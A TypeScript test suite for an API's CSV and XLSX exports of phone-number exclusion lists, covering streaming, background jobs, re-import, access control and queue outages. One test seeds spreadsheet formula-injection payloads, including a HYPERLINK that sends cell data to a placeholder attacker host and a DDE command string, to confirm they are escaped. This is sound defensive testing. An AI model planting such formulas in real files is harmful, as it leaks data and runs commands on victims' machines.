import { randomUUID } from 'node:crypto';
import { activeExclusionListId, ExclusionEntrySchema, ExclusionExportSchema } from '@ccp/db';
import { TEST_DRIVERS } from '@ccp/db/testing';
import { buildExclusionExport, EXPORT_HEADER, importUpload, readUpload } from '@ccp/imports';
import { activeEntries } from '@ccp/imports/testing';
import { EXCLUSION_EXPORT_JOB_OPTIONS, exclusionExportJobId, QUEUES } from '@ccp/jobs';
import * as XLSX from '@e965/xlsx';
import { beforeAll, describe, expect, it } from 'vitest';
import { LogCapture } from '../../../test/app.js';
import { insertExclusions } from '../../../test/exclusions.js';
import { multipartForm } from '../../../test/multipart.js';
import { apiTestbed } from '../../../test/testbed.js';
import { Database } from '../../database/database.js';
import { JobQueues } from '../../jobs/job-queues.js';
import { EXPORT_GIVEN_UP_AFTER_MS, XLSX_IN_REQUEST_MAX_ENTRIES } from './exports.service.js';

const EXCLUSIONS = '/api/v1/exclusions';
const EXPORT = `${EXCLUSIONS}/export`;
const EXPORTS = `${EXCLUSIONS}/exports`;
const PROBLEM = 'https://ccp.example/problems/';
const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const HEADER_LINE = `${EXPORT_HEADER.join(',')}\r\n`;

/** Today's date as the file names carry it (UTC). */
const today = () => new Date().toISOString().slice(0, 10);

/** The first sheet of an XLSX as rows of cell values, formulas kept as such (never evaluated). */
function sheetRows(bytes: Buffer): { rows: unknown[][]; formulas: number; sheets: string[] } {
  const book = XLSX.read(bytes, { type: 'buffer', dense: true, cellFormula: true });
  const sheet = book.Sheets[book.SheetNames[0] as string] as XLSX.WorkSheet;
  const data = (sheet['!data'] ?? []) as XLSX.CellObject[][];
  return {
    rows: data.map((row) => row.map((cell) => cell.v)),
    formulas: data.flat().filter((cell) => cell.f !== undefined).length,
    sheets: book.SheetNames,
  };
}

/** `count` distinct numbers from +1 415 200 0000 (E.164). */
const numbers = (count: number, first = 2_000_000) => Array.from({ length: count }, (_, i) => `+1415${first + i}`);

/** An account of the test's own, with its admin's Authorization. */
interface TestAccount {
  readonly accountId: string;
  readonly slug: string;
  readonly authorization: string;
}

describe.each(TEST_DRIVERS)('EXC-9: exclusion-list exports on %s', (driver) => {
  const bed = apiTestbed(driver, { demo: true, emptyQueues: [QUEUES.exclusionExports] });
  let viewer: string;
  let basic: string;
  // Made once, not per test: logins are throttled.
  let source: TestAccount;
  let target: TestAccount;
  let empty: TestAccount;
  let formulas: TestAccount;
  let large: TestAccount;

  /** The source list, added the way people add: one of each form EXC-1 accepts. */
  const SOURCE_ENTRIES = ['(415) 555-0100', '415.555.0101', '628*', '212', '+1 650 555 0199'];

  beforeAll(async () => {
    viewer = await bed.login('viewer@demo.test');
    basic = await bed.login('admin@basic.test');
    source = await newAccount('source');
    target = await newAccount('target');
    empty = await newAccount('empty');
    formulas = await newAccount('formulas');
    large = await newAccount('large');
    for (const entry of SOURCE_ENTRIES) {
      const added = await bed.app.inject({
        method: 'POST',
        url: EXCLUSIONS,
        payload: { entry },
        headers: { authorization: source.authorization },
      });
      expect(added.statusCode, added.body).toBe(201);
    }
  }, 60_000);

  const get = (url: string, authorization = bed.admin) => bed.app.inject({ method: 'GET', url, headers: { authorization } });
  const download = (format: string, authorization = bed.admin) => get(`${EXPORT}?format=${format}`, authorization);
  const orm = () => bed.app.get(Database).orm;

  async function newAccount(slug: string): Promise<TestAccount> {
    const { accountId, admin } = await bed.addAccount(slug);
    return { accountId, slug, authorization: admin };
  }

  /** Uploads a file as the person would, then imports it as the worker does (the same @ccp/imports use case). */
  async function uploadAndImport(authorization: string, file: Buffer, fileName: string, mode: 'add' | 'replace') {
    const { payload, headers } = multipartForm([
      { name: 'file', value: file, fileName },
      { name: 'mode', value: mode },
    ]);
    const res = await bed.app.inject({ method: 'POST', url: `${EXCLUSIONS}/uploads`, payload, headers: { ...headers, authorization } });
    expect(res.statusCode, res.body).toBe(202);
    return importUpload(orm(), res.json().uploadId);
  }

  /** Entries straight into an account's list, with who added them. */
  async function insertEntries(accountId: string, entries: readonly string[], addedBy: string): Promise<void> {
    await bed.app.get(Database).transaction(async (em) => {
      const list = await activeExclusionListId(em, accountId);
      const addedAt = new Date('2026-11-25T10:00:00Z');
      await em.insertMany(
        ExclusionEntrySchema,
        entries.map((entry) => ({ accountId, list, entry, addedAt, addedBy })),
      );
    });
  }

  it('EXC-9: the CSV is an attachment named after the account and the day, streamed, with the header row and every entry', async () => {
    const res = await download('csv');
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="exclusion-list-demo-${today()}.csv"`);
    // Streamed: no length known in advance.
    expect(res.headers['transfer-encoding']).toBe('chunked');
    expect(res.headers['content-length']).toBeUndefined();
    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const lines = res.body.replace(/^\uFEFF/, '').split('\r\n');
    expect(lines.map((line) => line.replace(/,\d{4}-[^,]+Z,/, ',<added at>,'))).toEqual([
      'Number,Kind,Added at,Added by',
      '(212) 555-0123,number,<added at>,demo seed',
      '(310) 555-0142,number,<added at>,demo seed',
      '646*,area-code,<added at>,demo seed',
      '',
    ]);
    // Added at is the entry's, as GET /exclusions shows it, to the second.
    const listed = (await get(EXCLUSIONS)).json().items[0].addedAt as string;
    expect(lines[1]).toContain(`,${listed.replace(/\.\d{3}Z$/, 'Z')},`);
  });

  it('EXC-9: the XLSX is an attachment with one sheet: the header row, then a row of text cells per entry', async () => {
    const res = await download('xlsx');
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe(XLSX_TYPE);
    expect(res.headers['content-disposition']).toBe(`attachment; filename="exclusion-list-demo-${today()}.xlsx"`);
    const { rows, formulas, sheets } = sheetRows(res.rawPayload);
    expect(sheets).toEqual(['Exclusion list']);
    expect(formulas).toBe(0);
    expect(rows.map((row) => [row[0], row[1], row[3]])).toEqual([
      ['Number', 'Kind', 'Added by'],
      ['(212) 555-0123', 'number', 'demo seed'],
      ['(310) 555-0142', 'number', 'demo seed'],
      ['646*', 'area-code', 'demo seed'],
    ]);
  });

  it.each(['csv', 'xlsx'])(
    'EXC-9: a %s download uploads again unchanged: replacing another list with it, and this list with it, gives this list',
    async (format) => {
      // The target's list is another: the replace must leave none of it.
      await insertEntries(target.accountId, numbers(3, format === 'csv' ? 7_000_000 : 7_100_000), 'someone else');
      const listed = await activeEntries(orm(), source.accountId);
      expect(listed).toEqual(['+14155550100', '+14155550101', '+16505550199', '212', '628']);

      const numbersOf = async () => (await download('csv', source.authorization)).body.split('\r\n').map((line) => line.split(',')[0]);
      const before = await numbersOf();
      const file = await download(format, source.authorization);
      expect(file.statusCode).toBe(200);

      expect(await uploadAndImport(target.authorization, file.rawPayload, `list.${format}`, 'replace')).toMatchObject({
        kind: 'done',
        imported: 5,
        duplicates: 0,
        rejectedCount: 0,
      });
      expect(await activeEntries(orm(), target.accountId)).toEqual(listed);

      expect(await uploadAndImport(source.authorization, file.rawPayload, `list.${format}`, 'replace')).toMatchObject({
        kind: 'done',
        imported: 5,
        rejectedCount: 0,
      });
      expect(await activeEntries(orm(), source.accountId)).toEqual(listed);
      // And it downloads again with the same numbers (who added them and when is the upload's now).
      expect(await numbersOf()).toEqual(before);
    },
  );

  it('EXC-9: an empty list downloads as a blank template: the header row alone, in both formats', async () => {
    const csv = await download('csv', empty.authorization);
    expect(csv.statusCode).toBe(200);
    expect(csv.body).toBe(`\uFEFF${HEADER_LINE}`);
    expect(csv.headers['content-disposition']).toBe(`attachment; filename="exclusion-list-${empty.slug}-${today()}.csv"`);
    const xlsx = await download('xlsx', empty.authorization);
    expect(xlsx.statusCode).toBe(200);
    expect(sheetRows(xlsx.rawPayload).rows).toEqual([[...EXPORT_HEADER]]);
  });

  it('EXC-9: cells a spreadsheet would run as a formula are written as text with an apostrophe; E.164 entries still round-trip', async () => {
    const texts = ['=HYPERLINK("http://evil.test/?x="&A2,"Open")', "=cmd|' /C calc'!A0", '@SUM(1+1)', '+1+1', '-1+1', '\t=1+1'];
    const entries = numbers(texts.length, 5_550_100);
    for (const [i, entry] of entries.entries()) await insertEntries(formulas.accountId, [entry], texts[i] as string);

    const csv = await download('csv', formulas.authorization);
    const sheet = XLSX.read(csv.body, { type: 'string', raw: true, dense: true, cellFormula: true }).Sheets.Sheet1 as XLSX.WorkSheet;
    const csvCells = ((sheet['!data'] ?? []) as XLSX.CellObject[][]).slice(1);
    expect(csvCells.map((row) => row[3]?.v)).toEqual(texts.map((text) => `'${text}`));
    expect(csvCells.map((row) => row[0]?.v)).toEqual(entries.map((e) => `(${e.slice(2, 5)}) ${e.slice(5, 8)}-${e.slice(8)}`));

    const xlsx = await download('xlsx', formulas.authorization);
    const { rows, formulas: formulaCells } = sheetRows(xlsx.rawPayload);
    expect(formulaCells).toBe(0);
    expect(rows.slice(1).map((row) => row[3])).toEqual(texts.map((text) => `'${text}`));

    for (const [file, name] of [
      [csv.rawPayload, 'list.csv'],
      [xlsx.rawPayload, 'list.xlsx'],
    ] as const) {
      const read = await readUpload(file, name);
      expect(read.entries.toArray(), name).toEqual(entries);
      expect(read.rejectedCount, name).toBe(0);
    }
  });

  it('the format is checked: a missing or unknown one is 422 naming format', async () => {
    for (const [url, message] of [
      [EXPORT, 'format is required: csv or xlsx'],
      [`${EXPORT}?format=pdf`, 'format must be csv or xlsx'],
      [`${EXPORT}?format=CSV`, 'format must be csv or xlsx'],
    ] as const) {
      const res = await get(url);
      expect(res.statusCode, url).toBe(422);
      expect(res.headers['content-type']).toBe('application/problem+json; charset=utf-8');
      expect(res.json(), url).toMatchObject({ type: `${PROBLEM}validation-failed`, errors: [{ path: 'format', message }] });
    }
  });

  it(`EXC-9: an XLSX of over ${XLSX_IN_REQUEST_MAX_ENTRIES} entries is built by the worker: 202, its status, 409 until done, then the file`, async () => {
    const entries = [...numbers(XLSX_IN_REQUEST_MAX_ENTRIES + 1), '628'];
    await insertExclusions(bed.app, large.accountId, entries);

    // HEAD answers as GET would, and reads, builds and queues nothing.
    const exportsNow = () => bed.app.get(Database).em().count(ExclusionExportSchema, { account: large.accountId });
    const head = (format: string) =>
      bed.app.inject({ method: 'HEAD', url: `${EXPORT}?format=${format}`, headers: { authorization: large.authorization } });
    expect((await head('xlsx')).statusCode).toBe(202);
    const headCsv = await head('csv');
    expect(headCsv.statusCode).toBe(200);
    expect(headCsv.headers['content-disposition']).toBe(`attachment; filename="exclusion-list-${large.slug}-${today()}.csv"`);
    expect(headCsv.body).toBe('');
    expect(await exportsNow()).toBe(0);

    const res = await download('xlsx', large.authorization);
    expect(res.statusCode, res.body).toBe(202);
    expect(await exportsNow()).toBe(1);
    const { exportId } = res.json();
    expect(exportId).toMatch(/^[0-9a-f-]{36}$/);
    expect(res.headers.location).toBe(`${EXPORTS}/${exportId}`);
    const job = await bed.app.get(JobQueues).get(QUEUES.exclusionExports).getJob(exclusionExportJobId(exportId));
    expect(job?.data).toEqual({ accountId: large.accountId, exportId });
    expect(job?.name).toBe(`export the xlsx list of ${large.slug}`);
    expect(job?.opts).toMatchObject({ attempts: EXCLUSION_EXPORT_JOB_OPTIONS.attempts });

    const queued = await get(`${EXPORTS}/${exportId}`, large.authorization);
    expect(queued.json()).toEqual({
      id: exportId,
      format: 'xlsx',
      status: 'queued',
      rows: null,
      createdAt: expect.any(String),
      finishedAt: null,
    });
    const early = await get(`${EXPORTS}/${exportId}/file`, large.authorization);
    expect(early.statusCode).toBe(409);
    expect(early.json()).toMatchObject({
      type: `${PROBLEM}conflict`,
      detail: expect.stringContaining('This export is queued, not done yet'),
    });

    // What the worker's job runs.
    expect(await buildExclusionExport(orm(), exportId)).toMatchObject({ kind: 'done', rows: entries.length });

    const done = (await get(`${EXPORTS}/${exportId}`, large.authorization)).json();
    expect(done).toMatchObject({ status: 'done', rows: entries.length, finishedAt: expect.any(String) });
    const file = await get(`${EXPORTS}/${exportId}/file`, large.authorization);
    expect(file.statusCode).toBe(200);
    expect(file.headers['content-type']).toBe(XLSX_TYPE);
    expect(file.headers['content-disposition']).toBe(
      `attachment; filename="exclusion-list-${large.slug}-${done.createdAt.slice(0, 10)}.xlsx"`,
    );
    const read = await readUpload(file.rawPayload, 'list.xlsx');
    expect(read.entries.toArray()).toEqual(['628', ...entries.slice(0, -1)]);
    expect(read.rejectedCount).toBe(0);

    // The same list as CSV is streamed at once, whatever its size.
    const csv = await download('csv', large.authorization);
    expect(csv.statusCode).toBe(200);
    expect(csv.body.split('\r\n')).toHaveLength(entries.length + 2);

    // ACC-3: the export is its account's alone.
    for (const url of [`${EXPORTS}/${exportId}`, `${EXPORTS}/${exportId}/file`]) {
      const other = await get(url);
      expect(other.statusCode, url).toBe(404);
      expect(other.json().type).toBe(`${PROBLEM}not-found`);
    }
  }, 60_000);

  it(`EXC-9: an XLSX of exactly ${XLSX_IN_REQUEST_MAX_ENTRIES} entries is still sent at once`, async () => {
    // The list of the test before, two entries shorter.
    await bed.app
      .get(Database)
      .em()
      .nativeDelete(ExclusionEntrySchema, { accountId: large.accountId, entry: { $in: ['628', numbers(1)[0] as string] } });
    const res = await download('xlsx', large.authorization);
    expect(res.statusCode).toBe(200);
    expect((await readUpload(res.rawPayload, 'list.xlsx')).rows).toBe(XLSX_IN_REQUEST_MAX_ENTRIES);
  }, 60_000);

  it('a failed export says why and has no file; an id that is no export is 404', async () => {
    const em = bed.app.get(Database).em();
    const failed = em.create(ExclusionExportSchema, {
      id: '7f1c2b9e-6a55-4f0e-9a43-0c8e1d2b3a4f',
      account: bed.accountId,
      format: 'xlsx',
      status: 'failed',
      error: 'the export failed 4 times; the last time: connect ECONNREFUSED',
      createdBy: 'admin@demo.test',
      finishedAt: new Date(),
    });
    await em.flush();
    expect((await get(`${EXPORTS}/${failed.id}`)).json()).toMatchObject({ status: 'failed', error: failed.error, rows: null });
    const file = await get(`${EXPORTS}/${failed.id}/file`);
    expect(file.statusCode).toBe(409);
    expect(file.json().detail).toBe(`This export failed (${failed.error}): ask for a new one`);
    for (const id of ['not-an-id', '00000000-0000-4000-8000-000000000000']) {
      expect((await get(`${EXPORTS}/${id}`)).statusCode).toBe(404);
      expect((await get(`${EXPORTS}/${id}/file`)).statusCode).toBe(404);
    }
  });

  it(`an export still not done ${EXPORT_GIVEN_UP_AFTER_MS / 60_000} minutes after it was asked for is failed when asked about, for good`, async () => {
    const em = bed.app.get(Database).em();
    const lost = em.create(ExclusionExportSchema, {
      id: randomUUID(),
      account: bed.accountId,
      format: 'xlsx',
      status: 'running',
      createdBy: 'admin@demo.test',
      createdAt: new Date(Date.now() - EXPORT_GIVEN_UP_AFTER_MS - 1_000),
    });
    const recent = em.create(ExclusionExportSchema, {
      id: randomUUID(),
      account: bed.accountId,
      format: 'xlsx',
      status: 'queued',
      createdBy: 'admin@demo.test',
      createdAt: new Date(Date.now() - EXPORT_GIVEN_UP_AFTER_MS + 60_000),
    });
    await em.flush();

    expect((await get(`${EXPORTS}/${recent.id}`)).json()).toMatchObject({ status: 'queued' });
    expect((await get(`${EXPORTS}/${lost.id}`)).json()).toMatchObject({
      status: 'failed',
      error: 'it did not finish within 30 minutes',
      finishedAt: expect.any(String),
    });
    expect((await get(`${EXPORTS}/${lost.id}/file`)).json().detail).toBe(
      'This export failed (it did not finish within 30 minutes): ask for a new one',
    );
    // A worker that gets to it after all builds nothing.
    expect(await buildExclusionExport(orm(), lost.id)).toEqual({ kind: 'finished', status: 'failed' });
  });

  it('ACC-3: each account downloads its own list only', async () => {
    const theirs = (await download('csv', source.authorization)).body;
    const ours = (await download('csv')).body;
    expect(theirs.split('\r\n').map((line) => line.split(',')[0])).toEqual([
      '\uFEFFNumber',
      '(415) 555-0100',
      '(415) 555-0101',
      '(650) 555-0199',
      '212*',
      '628*',
      '',
    ]);
    for (const number of ['(212) 555-0123', '(310) 555-0142', '646*']) {
      expect(ours).toContain(number);
      expect(theirs).not.toContain(number);
    }
  });

  it('ACC-2: a person without the permission gets 403; ACC-1: an account without the feature gets 403; no token is 401', async () => {
    expect((await download('csv', viewer)).json().type).toBe(`${PROBLEM}missing-permission`);
    expect((await download('xlsx', basic)).json().type).toBe(`${PROBLEM}feature-not-enabled`);
    expect((await bed.app.inject({ method: 'GET', url: `${EXPORT}?format=csv` })).statusCode).toBe(401);
  });

  it('the OpenAPI document describes the downloads and their answers', async () => {
    const document = (await bed.app.inject({ method: 'GET', url: '/api/docs/openapi.json' })).json();
    const exported = document.paths['/api/v1/exclusions/export'].get;
    expect(exported.parameters).toContainEqual(expect.objectContaining({ name: 'format', in: 'query', required: true }));
    expect(Object.keys(exported.responses)).toEqual(expect.arrayContaining(['200', '202', '401', '403', '409', '422', '503']));
    expect(Object.keys(exported.responses['200'].content)).toEqual(['text/csv; charset=utf-8', XLSX_TYPE]);
    expect(exported.responses['202'].headers).toHaveProperty('Location');
    expect(document.paths['/api/v1/exclusions/exports/{id}'].get.responses).toHaveProperty('404');
    expect(Object.keys(document.paths['/api/v1/exclusions/exports/{id}/file'].get.responses)).toEqual(
      expect.arrayContaining(['200', '404', '409']),
    );
  });
});

describe.each(TEST_DRIVERS)('EXC-9: a large XLSX export while Redis is away, on %s', (driver) => {
  const log = new LogCapture();
  const bed = apiTestbed(driver, { demo: true, ownRedis: true, env: { LOG_LEVEL: 'warn' }, app: { logStream: log } });

  it('is 503 at once, and its export is failed with the reason rather than left waiting for ever', async () => {
    const { admin } = bed;
    const accountId = (await bed.app.inject({ method: 'GET', url: '/api/v1/me', headers: { authorization: admin } })).json().account.id;
    await insertExclusions(bed.app, accountId, numbers(XLSX_IN_REQUEST_MAX_ENTRIES + 1));
    await bed.redis.stop();

    const started = Date.now();
    const res = await bed.app.inject({ method: 'GET', url: `${EXPORT}?format=xlsx`, headers: { authorization: admin } });
    expect(Date.now() - started).toBeLessThan(4_000);
    expect(res.statusCode, res.body).toBe(503);
    expect(res.json().type).toBe(`${PROBLEM}service-unavailable`);
    const rows = await bed.app.get(Database).em().find(ExclusionExportSchema, { account: accountId });
    expect(rows).toEqual([
      expect.objectContaining({ status: 'failed', error: 'the job queue did not answer when the export was asked for' }),
    ]);
    expect(log.lines).toContainEqual(expect.objectContaining({ level: 40, msg: expect.stringContaining('could not be queued') }));
    // A CSV needs no queue: still streamed.
    const csv = await bed.app.inject({ method: 'GET', url: `${EXPORT}?format=csv`, headers: { authorization: admin } });
    expect(csv.statusCode).toBe(200);
    expect(csv.body.split('\r\n')).toHaveLength(XLSX_IN_REQUEST_MAX_ENTRIES + 1 + 3 + 2);
  }, 60_000);
});
